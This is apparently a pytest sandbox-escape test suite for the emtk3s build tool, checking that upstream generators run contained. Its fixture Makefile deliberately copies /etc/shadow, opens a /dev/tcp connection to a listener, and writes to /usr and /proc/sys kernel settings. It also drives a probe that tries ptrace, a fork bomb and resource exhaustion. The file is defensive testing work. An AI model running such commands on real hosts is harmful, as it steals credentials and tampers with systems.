"""Generators (upstream code emtk3s runs at fetch/resolve time: buildroot's Makefile, go mod
vendor) run in the sandbox: the host's system read-only, only their work tree
writable, no capabilities, no network unless they must download, a GOPROXY with "direct" refused."""

from __future__ import annotations

import io
import os
import socket
import tarfile
import threading
from pathlib import Path

import pytest

from emtk3s.infra import sandbox
from emtk3s.infra.errors import InputError
from emtk3s.packages.k3s.vendor import check_goproxy
from emtk3s.packages.k3s_root.showinfo import _compute as buildroot_show_info

pytestmark = pytest.mark.skipif(sandbox.available() is not None, reason="no bubblewrap here")


def _listener() -> tuple[socket.socket, list[bytes]]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    hits: list[bytes] = []

    def serve() -> None:
        try:
            while True:
                conn, _ = srv.accept()
                hits.append(conn.recv(64) or b"connected")
                conn.close()
        except OSError:
            return

    threading.Thread(target=serve, daemon=True).start()
    return srv, hits


def _tgz(path: Path, files: dict[str, str]) -> Path:
    with tarfile.open(path, "w:gz") as tf:
        for name, text in files.items():
            data = text.encode()
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mode = 0o644
            tf.addfile(ti, io.BytesIO(data))
    return path


# a hostile buildroot Makefile (our own text; buildroot's real one runs arbitrary package code)
HOSTILE_MAKEFILE = """\
.PHONY: olddefconfig show-info printvars
olddefconfig:
\t-touch {mark}.olddefconfig
\t-cp /etc/shadow $(HOME)/stolen-shadow
\t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo ESCAPED >&3'
\t-touch /usr/emtk3s-hostile
\t-cat /proc/1/cmdline > $(HOME)/pid1
\t-echo $$(( $$(cat /proc/sys/kernel/printk_ratelimit) + 1 )) > /proc/sys/kernel/printk_ratelimit
\t-cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern
\t-ls /usr/local /opt > $(HOME)/seen 2>&1
show-info:
\t-@touch {mark}.show-info
\t@echo '{{}}'
printvars:
\t@echo 'X_HASH_FILES=package/x/x.hash'
"""


PRINTK = Path("/proc/sys/kernel/printk_ratelimit")


def test_buildroot_makefile_runs_contained(tmp_path: Path) -> None:
    printk = PRINTK.read_text()
    srv, hits = _listener()
    mark = tmp_path / "outside" / "escaped"
    mark.parent.mkdir()
    makefile = HOSTILE_MAKEFILE.format(mark=mark, port=srv.getsockname()[1])
    # buildroot's show-info at resolve time (k3s-root's download list) runs this Makefile
    br = tmp_path / "work"
    (br / "package").mkdir(parents=True)
    (br / "Makefile").write_text(makefile)
    kr = tmp_path / "kr"
    (kr / "buildroot").mkdir(parents=True)
    (kr / "buildroot/amd64config").write_text("A=1\n")
    (kr / "buildroot/config").write_text("B=1\n")
    work = br
    facts = buildroot_show_info(br, kr, ["x86_64"])
    assert facts["downloads"] == []
    srv.close()
    assert not list(mark.parent.iterdir()), "a generator wrote outside its work tree"
    assert hits == [], "a generator without a download reached a host loopback listener"
    assert not (work / "stolen-shadow").exists() or not (work / "stolen-shadow").read_bytes()
    assert not Path("/usr/emtk3s-hostile").exists()
    with open("/proc/1/cmdline", "rb") as fh:
        host_init = fh.read()
    assert (work / "pid1").read_bytes() != host_init
    changed = PRINTK.read_text() != printk
    if changed:
        PRINTK.write_text(printk)
    assert not changed, "a generator changed the host's kernel.printk_ratelimit"
    # the host's /usr/local and /opt are not the generator's
    seen = (work / "seen").read_text()
    assert "go" not in seen.split() and "No such file" in seen, seen


def test_generator_has_no_capabilities_and_a_private_dev(tmp_path: Path) -> None:
    proc = sandbox.run_generator(
        ["sh", "-c", "grep CapEff /proc/self/status; ls /dev; mount -t tmpfs t /tmp 2>&1; true"],
        cwd=tmp_path,
        env={"HOME": str(tmp_path)},
        writable=[tmp_path],
    )
    assert proc.returncode == 0, proc.stderr
    assert "CapEff:\t0000000000000000" in proc.stdout
    devs = set(proc.stdout.split())
    assert "null" in devs and not any(d.startswith(("sd", "vd", "nvme", "loop")) for d in devs)
    assert "permission denied" in proc.stdout.lower()


def test_generator_dies_with_its_parent(tmp_path: Path) -> None:
    """A generator's children are killed when the sandbox's command ends (pid namespace)."""
    tag = f"emtk3s-gen-{os.getpid()}"
    proc = sandbox.run_generator(
        ["bash", "-c", f"(setsid bash -c 'exec -a {tag} sleep 300' &) ; echo started"],
        cwd=tmp_path,
        env={"HOME": str(tmp_path)},
        writable=[tmp_path],
    )
    assert "started" in proc.stdout
    left = [
        d.name for d in Path("/proc").iterdir() if d.name.isdigit() and tag.encode() in _cmdline(d)
    ]
    assert left == []


def _cmdline(d: Path) -> bytes:
    try:
        return (d / "cmdline").read_bytes()
    except OSError:
        return b""


@pytest.mark.parametrize(
    "goproxy", ["https://proxy.golang.org,direct", "direct", "", "https://p|direct", "ssh://x"]
)
def test_goproxy_that_reaches_any_host_is_refused(goproxy: str) -> None:
    with pytest.raises(InputError, match="GOPROXY"):
        check_goproxy({"GOPROXY": goproxy})


def test_goproxy_defaults_to_the_module_proxy_without_direct() -> None:
    env: dict[str, str] = {}
    assert check_goproxy(env) == []
    assert env["GOPROXY"] == "https://proxy.golang.org"
    assert check_goproxy({"GOPROXY": "file:///srv/goproxy,off"}) == [Path("/srv/goproxy")]


HOSTILE_PROBE = Path(__file__).parent.parent / "fixtures" / "hostile_probe.py"


def test_generator_sandbox_holds_against_the_hostile_probe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The build suite's probe as a generator: kernel knobs, keyring, ptrace, seccomp, the
    bounding set, user namespaces, a fork bomb, a 10 GiB file and 8 GiB of address space."""
    import hashlib
    import subprocess

    monkeypatch.setenv("EMTK3S_SANDBOX_PIDS", "128")
    monkeypatch.setenv("EMTK3S_SANDBOX_MEMORY", str(2 << 30))
    printk = PRINTK.read_text()
    victim = subprocess.Popen(["sleep", "300"])
    srv, hits = _listener()
    marks = tmp_path / "marks"
    marks.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    probe = work / "probe.py"
    probe.write_bytes(HOSTILE_PROBE.read_bytes())
    try:
        args = [str(marks / "escaped"), str(srv.getsockname()[1]), "emtk3s-gen-probe", "x"]
        proc = sandbox.run_generator(
            ["python3", str(probe), *args, str(victim.pid)],
            cwd=work,
            env={"HOME": str(work)},
            writable=[work],
        )
    finally:
        victim.kill()
        victim.wait()
        srv.close()
        if PRINTK.read_text() != printk:
            PRINTK.write_text(printk)
            pytest.fail("a generator changed the host's kernel.printk_ratelimit")
    assert proc.returncode == 0, proc.stderr
    results = dict(
        line.split(" ", 2)[1:] for line in proc.stdout.splitlines() if line.startswith("PROBE ")
    )
    for name in (
        "sysctl-write",
        "core-pattern",
        "keyring",
        "ptrace",
        "seccomp",
        "userns",
        "fork-bomb",
        "fallocate",
        "memory",
        "loopback",
        "no-new-privs",
        "proc-keys",
        "sys-view",
    ):
        assert results.get(name, "").startswith("contained"), (name, results.get(name))
    assert results["capbnd"] == "info 0000000000000000"
    with open("/etc/shadow", "rb") as fh:
        host = hashlib.sha256(fh.read()).hexdigest()
    assert results.get("shadow") != f"read {host}"
    assert hits == [] and list(marks.iterdir()) == []
